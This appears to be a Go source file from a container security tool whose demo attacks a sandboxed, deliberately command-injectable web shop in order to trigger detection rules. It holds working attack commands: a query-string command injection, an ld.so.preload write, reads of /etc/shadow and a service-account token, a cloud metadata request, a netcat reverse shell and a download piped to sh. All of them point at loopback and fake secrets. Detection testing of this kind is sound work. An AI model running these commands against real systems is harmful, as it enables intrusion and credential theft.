package cli

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"slices"
	"strings"

	"github.com/dockreeve/dockreeve/internal/sandbox"
)

// attack is a short story told to a container, step by step.
type attack struct {
	Name  string // for --only
	Title string
	Steps []step
}

// step is one thing an attacker does, and the alerts it must raise.
type step struct {
	Say    string   // what happens, for people
	Shown  string   // the command that is run
	Expect []string // rule ids
	// Do does it and returns what the attacker saw.
	Do func(context.Context, victim) (string, error)
	// Proof is in what the attacker saw when the step really worked: an alert that
	// does not come means nothing if the attack did not happen.
	Proof string
}

// victim is the container that is attacked.
type victim interface {
	ID() string
	// Run runs a command inside with that on its standard input and returns all it
	// printed. A command that ran and failed is no error.
	Run(ctx context.Context, input string, argv ...string) (string, error)
	// Listen runs a command inside that listens on a TCP port, returns when it
	// does, and gives what it printed when it is waited for.
	Listen(ctx context.Context, port uint16, input string, argv ...string) (wait func() (string, error), err error)
}

// The little web shop that is broken into. Everything in it is made up, the page is
// open to command injection by design, and the metadata address exists only on the
// container's own loopback interface, where nobody answers.
const (
	demoName    = "dockreeve-demo"
	demoImage   = "registry.example/shop/web:1.4"
	demoPort    = 8080
	demoPage    = "http://127.0.0.1:8080/cgi-bin/status.cgi?host="
	tokenFile   = "/var/run/secrets/kubernetes.io/serviceaccount/token"
	metadataURL = "http://169.254.169.254/metadata/instance?api-version=2021-02-01"
	payloadURL  = "http://127.0.0.1:8080/payload.sh"
)

var demoFiles = map[string]string{
	"/www/index.html": "<!doctype html><title>Shop</title><h1>Shop</h1>\n",
	"/www/cgi-bin/status.cgi": `#!/bin/sh
# Says whether a host is known. It puts what a stranger typed into a shell command,
# which is the mistake this demo is about.
printf 'Content-Type: text/plain\r\n\r\n'
host=$(httpd -d "${QUERY_STRING#host=}")
sh -c "echo checking $host"
`,
	"/www/payload.sh": "echo the payload runs as uid=$(id -u) and does nothing\n",
	"/etc/shadow":     "root:$6$demo$not.a.real.hash:19000:0:99999:7:::\nshop:$6$demo$not.a.real.hash.either:19000:0:99999:7:::\n",
	tokenFile:         "demo-token-that-opens-nothing\n",
}

// attacks returns the demo's attacks in order. Each rule id is expected once.
func attacks() []attack {
	request := func(command string) string { return demoPage + "web;" + strings.ReplaceAll(command, " ", "+") }
	inject := func(command string) func(context.Context, victim) (string, error) {
		return func(ctx context.Context, v victim) (string, error) {
			return v.Run(ctx, "", "wget", "-q", "-O-", request(command))
		}
	}
	shell := func(command string) func(context.Context, victim) (string, error) {
		return func(ctx context.Context, v victim) (string, error) { return v.Run(ctx, "", "/bin/sh", "-c", command) }
	}
	const (
		drop    = "mkdir -p /tmp/.x; cp /bin/busybox /tmp/.x/nproc; /tmp/.x/nproc; echo ran $?"
		preload = "echo /tmp/.x/libhide.so >> /etc/ld.so.preload; cat /etc/ld.so.preload"
		// Paths, not names: this busybox's shell runs its own applets without an exec
		// that names them.
		pipe     = "/bin/wget -q -O- " + payloadURL + " | /bin/sh"
		metadata = "/bin/wget -q -O- '" + metadataURL + "'"
	)
	return []attack{
		{"web-shell", "Web shell: a page of the shop runs whatever a request tells it to", []step{
			{"A request asks the page who it is", "wget -q -O- '" + request("id") + "'",
				[]string{"shell-from-network-service"}, inject("id"), "uid=0"},
			{"The next one drops a program and runs it", "wget -q -O- '" + request(drop) + "'",
				[]string{"drift"}, inject(drop), "ran 0"},
			{"The last one makes every program load a library", "wget -q -O- '" + request(preload) + "'",
				[]string{"ld-so-preload-write"}, inject(preload), "libhide.so"},
		}},
		{"secrets", "Secrets: someone in the container collects what it can read", []step{
			{"The password hashes", "cat /etc/shadow", []string{"credential-file-read"}, shell("cat /etc/shadow"), "not.a.real.hash"},
			{"The pod's identity", "cat " + tokenFile, []string{"service-account-token-read"}, shell("cat " + tokenFile), "demo-token"},
			{"The node's identity", metadata, []string{"metadata-service-by-hand"},
				shell(metadata), "refused"},
		}},
		{"reverse-shell", "Reverse shell: the container calls home and takes orders", []step{
			{"A shell is joined to an outgoing connection", "nc 127.0.0.1 4444 -e /bin/sh", []string{"reverse-shell"}, reverseShell, "uid=0"},
			{"A script is run as it is downloaded", pipe, []string{"download-to-shell"}, shell(pipe), "does nothing"},
		}},
	}
}

// reverseShell plays both ends: the attacker's listener gives the orders and sees
// the answers.
func reverseShell(ctx context.Context, v victim) (string, error) {
	answers, err := v.Listen(ctx, 4444, "id\nhostname\nexit\n", "nc", "-l", "-p", "4444")
	if err != nil {
		return "", err
	}
	if out, err := v.Run(ctx, "", "nc", "127.0.0.1", "4444", "-e", "/bin/sh"); err != nil {
		return out, err
	}
	return answers()
}

func attackNames() []string {
	var names []string
	for _, a := range attacks() {
		names = append(names, a.Name)
	}
	return names
}

// pick returns the attacks with these names, all when there are none, in order.
func pick(names []string) ([]attack, error) {
	for _, n := range names {
		if !slices.Contains(attackNames(), n) {
			return nil, withCode(exitUsage, "--only %q: the attacks are %s", n, strings.Join(attackNames(), ", "))
		}
	}
	return slices.DeleteFunc(attacks(), func(a attack) bool { return len(names) > 0 && !slices.Contains(names, a.Name) }), nil
}

// sandboxVictim is a real throw-away container.
type sandboxVictim struct{ box *sandbox.Sandbox }

// newVictim starts the shop and returns once it answers.
func newVictim(ctx context.Context) (*sandboxVictim, error) {
	box, err := sandbox.Create(ctx, sandbox.Options{
		Hostname: "shop", Image: demoImage, Files: demoFiles,
		Modes:        map[string]os.FileMode{"/etc/shadow": 0o640, tokenFile: 0o600},
		Addresses:    []netip.Addr{netip.MustParseAddr("169.254.169.254")},
		Annotations:  map[string]string{"nerdctl/name": demoName}, // what attribution knows as the container's name
		Init:         []string{"/bin/httpd", "-f", "-p", fmt.Sprintf("127.0.0.1:%d", demoPort), "-h", "/www"},
		Capabilities: []string{},
	})
	if err != nil {
		return nil, err
	}
	if err := box.WaitListening(ctx, demoPort); err != nil {
		return nil, errors.Join(fmt.Errorf("the demo's web server did not come up: %w", err), box.Close())
	}
	return &sandboxVictim{box}, nil
}

func (v *sandboxVictim) ID() string { return v.box.Name }

// maxSeen bounds what is kept of what an attacker sees, in bytes.
const maxSeen = 64 << 10

// seen keeps the first maxSeen bytes: only people read it.
type seen struct{ b []byte }

func (s *seen) Write(p []byte) (int, error) {
	s.b = append(s.b, p[:min(len(p), maxSeen-len(s.b))]...)
	return len(p), nil
}

func (v *sandboxVictim) Run(ctx context.Context, input string, argv ...string) (string, error) {
	var out seen
	cmd := v.box.Command(ctx, argv...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = strings.NewReader(input), &out, &out
	return string(out.b), ran(ctx, argv, cmd.Run(), &out)
}

func (v *sandboxVictim) Listen(ctx context.Context, port uint16, input string, argv ...string) (func() (string, error), error) {
	var out seen
	cmd := v.box.Command(ctx, argv...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = strings.NewReader(input), &out, &out
	if err := cmd.Start(); err != nil {
		return nil, fmt.Errorf("run %q in the container: %w", argv, err)
	}
	wait := func() (string, error) {
		err := ran(ctx, argv, cmd.Wait(), &out)
		return string(out.b), err
	}
	if err := v.box.WaitListening(ctx, port); err != nil {
		_ = cmd.Process.Kill() // the wait below says how it ended
		_, ended := wait()
		return nil, errors.Join(err, ended)
	}
	return wait, nil
}

// ran forgives a command that ran and failed; whether it did its work, its output shows.
func ran(ctx context.Context, argv []string, err error, out *seen) error {
	var exit *exec.ExitError
	if ctx.Err() == nil && errors.As(err, &exit) && exit.Exited() {
		return nil
	}
	if err != nil {
		return fmt.Errorf("run %q in the container: %w: %s", argv, errors.Join(ctx.Err(), err), strings.TrimSpace(string(out.b)))
	}
	return nil
}
